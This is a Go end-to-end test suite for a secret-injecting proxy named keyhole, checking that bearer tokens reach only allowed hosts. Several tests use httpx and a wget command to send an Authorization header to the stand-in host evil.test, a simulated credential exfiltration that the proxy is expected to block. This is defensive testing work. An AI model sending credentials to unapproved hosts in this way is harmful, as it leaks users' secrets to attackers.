package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// underKeyholeEnv runs args after `eval "$(keyhole env ...)"` in bash, as
// an agent's shell would, and returns their stdout. keyhole env writes the
// CA files to a directory of its own (--ca-dir) and names k's address.
func underKeyholeEnv(t *testing.T, k *keyhole, args ...string) string {
	t.Helper()
	need(t, "bash")
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	script := `eval "$("$KEYHOLE_BIN" env --rules "$RULES" --proxy "$PROXY" --ca-dir "$CA_DIR")" || exit 1; exec "$@"`
	cmd := exec.CommandContext(ctx, "bash", append([]string{"-c", script, "keyhole-env"}, args...)...)
	cmd.Env = append(baseEnv(), "KEYHOLE_BIN="+binary, "RULES="+k.Rules, "PROXY="+k.ProxyURL("", ""),
		"CA_DIR="+filepath.Join(t.TempDir(), "ca"), "KEYHOLE_STATE_DIR="+k.StateDir, "HOME="+t.TempDir())
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	assertNoSecretIn(t, "the client's stderr", stderr.String())
	if err != nil {
		t.Fatalf("%s: %v\nstderr:\n%s", args[0], err, stderr.String())
	}
	return string(out)
}

// httpxScript sends its requests with httpx, configured by the environment
// only (HTTPS_PROXY, SSL_CERT_FILE), and prints one JSON line per response.
const httpxScript = `
import json, sys, httpx
with httpx.Client(timeout=20) as c:
    for url in sys.argv[1:]:
        r = c.get(url, headers={"Authorization": "Bearer <<STRIPE>>"})
        print(json.dumps({"status": r.status_code, "reason": r.headers.get("x-keyhole-reason", ""), "echo": r.headers.get("x-echo-authorization", ""), "body": r.text}))
`

// clientLine is one response a script printed.
type clientLine struct {
	Status int    `json:"status"`
	Reason string `json:"reason"`
	Echo   string `json:"echo"`
	Body   string `json:"body"`
}

// checkAllowedAndRefused checks the two responses a client printed for
// GET https://api.stripe.test/v1/charges and https://evil.test/v1/charges,
// both with "Authorization: Bearer <<STRIPE>>".
func checkAllowedAndRefused(t *testing.T, w *world, ok, refused clientLine) {
	t.Helper()
	if ok.Status != http.StatusOK || !strings.Contains(ok.Body, "Bearer <<STRIPE>>") {
		t.Errorf("allowed request: got status %d, want 200 and the placeholder echoed back; body %s", ok.Status, ok.Body)
	}
	if got := w.stripe.Last(t).Header.Get("Authorization"); got != "Bearer "+stripeValue {
		t.Errorf("upstream did not receive the real secret")
	}
	if refused.Status != http.StatusForbidden || !strings.Contains(refused.Body, `"reason":"host_not_allowed"`) {
		t.Errorf("refused request: got status %d, body %s; want 403 with the host_not_allowed JSON", refused.Status, refused.Body)
	}
	if w.evil.Hits() != 0 {
		t.Errorf("evil.test received %d requests, want 0", w.evil.Hits())
	}
}

// TestHTTPXUnderKeyholeEnv: Debian's python3-httpx, after eval "$(keyhole
// env)" and nothing else (HTTPS_PROXY, SSL_CERT_FILE), gets the secret
// injected, the echo scrubbed and a readable refusal.
func TestHTTPXUnderKeyholeEnv(t *testing.T) {
	if err := exec.Command("/usr/bin/python3", "-c", "import httpx").Run(); err != nil {
		missing(t, "/usr/bin/python3 cannot import httpx (Debian's python3-httpx): %v", err)
	}
	w := newWorld(t, "")
	out := underKeyholeEnv(t, w.k, "/usr/bin/python3", "-c", httpxScript,
		"https://api.stripe.test/v1/charges", "https://evil.test/v1/charges")
	assertNoSecretIn(t, "httpx's output", out)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 2 {
		t.Fatalf("httpx printed %d lines, want 2:\n%s", len(lines), out)
	}
	var got [2]clientLine
	for i, l := range lines {
		if err := json.Unmarshal([]byte(l), &got[i]); err != nil {
			t.Fatalf("httpx output: %v", err)
		}
	}
	if got[0].Echo != "Bearer <<STRIPE>>" {
		t.Errorf("echoed header: got %q, want the placeholder", got[0].Echo)
	}
	if got[1].Reason != "host_not_allowed" {
		t.Errorf("X-Keyhole-Reason: got %q, want host_not_allowed", got[1].Reason)
	}
	checkAllowedAndRefused(t, w, got[0], got[1])
}

// TestWgetUnderKeyholeEnv: wget ignores SSL_CERT_FILE; keyhole env points
// WGETRC at a file whose ca_certificate is the bundle, so wget trusts
// keyhole after the eval alone.
func TestWgetUnderKeyholeEnv(t *testing.T) {
	need(t, "wget", "--version")
	w := newWorld(t, "")
	get := func(url string) clientLine {
		// --content-on-error keeps the refusal's JSON body; -S prints
		// the response header on stderr, which we do not need.
		out := underKeyholeEnv(t, w.k, "bash", "-c",
			`wget -q --content-on-error -O - --header "Authorization: Bearer $STRIPE" "$1"; echo "exit=$?"`, "wget", url)
		body, code, _ := strings.Cut(strings.TrimSpace(out), "exit=")
		status := http.StatusOK
		switch code {
		case "0":
		case "8": // the server answered with an error status
			status = http.StatusForbidden
		default:
			t.Fatalf("wget %s: exit %s (5 is a TLS failure: the CA is not trusted); output %s", url, code, body)
		}
		return clientLine{Status: status, Body: body}
	}
	ok, refused := get("https://api.stripe.test/v1/charges"), get("https://evil.test/v1/charges")
	assertNoSecretIn(t, "wget's output", ok.Body+refused.Body)
	checkAllowedAndRefused(t, w, ok, refused)
}

// TestEnvRerunIsIdempotent: after eval "$(keyhole env)", SSL_CERT_FILE is
// keyhole's own bundle. Running keyhole env again must not read it as the
// system roots (which stacked the CA again: 145, 146, 147 certificates),
// and must still work after the state dir is re-created (it failed with
// "stat .../ca-bundle.pem: no such file").
func TestEnvRerunIsIdempotent(t *testing.T) {
	need(t, "bash")
	dir := t.TempDir()
	rules := filepath.Join(dir, "keyhole.yaml")
	if err := os.WriteFile(rules, []byte("secrets:\n  A:\n    source: env:A_KEY\n    hosts: [api.example.com]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	script := `set -e
run() { eval "$("$KEYHOLE_BIN" env --rules "$RULES")"; printf '%s %s\n' "$(grep -c -- '-----BEGIN CERTIFICATE' "$SSL_CERT_FILE")" "$(grep -c -- '-----BEGIN CERTIFICATE' "$KEYHOLE_STATE_DIR/ca.pem")"; tail -n 12 "$SSL_CERT_FILE" | cmp -s - <(tail -n 12 "$KEYHOLE_STATE_DIR/ca.pem") && echo ends-with-ca || echo wrong-ca; }
run; run; run
rm -rf "$KEYHOLE_STATE_DIR"
run; run`
	cmd := exec.Command("bash", "-c", script)
	cmd.Env = append(baseEnv(), "KEYHOLE_BIN="+binary, "RULES="+rules, "KEYHOLE_STATE_DIR="+filepath.Join(dir, "state"))
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("keyhole env: %v\nstderr:\n%s", err, stderr.String())
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(lines) != 10 {
		t.Fatalf("got %d lines, want 10:\n%s", len(lines), out)
	}
	for i := 0; i < len(lines); i += 2 {
		if lines[i] != lines[0] || lines[i+1] != "ends-with-ca" {
			t.Errorf("run %d: got %q, %q; want %q (the same count every time), ends-with-ca", i/2+1, lines[i], lines[i+1], lines[0])
		}
	}
}
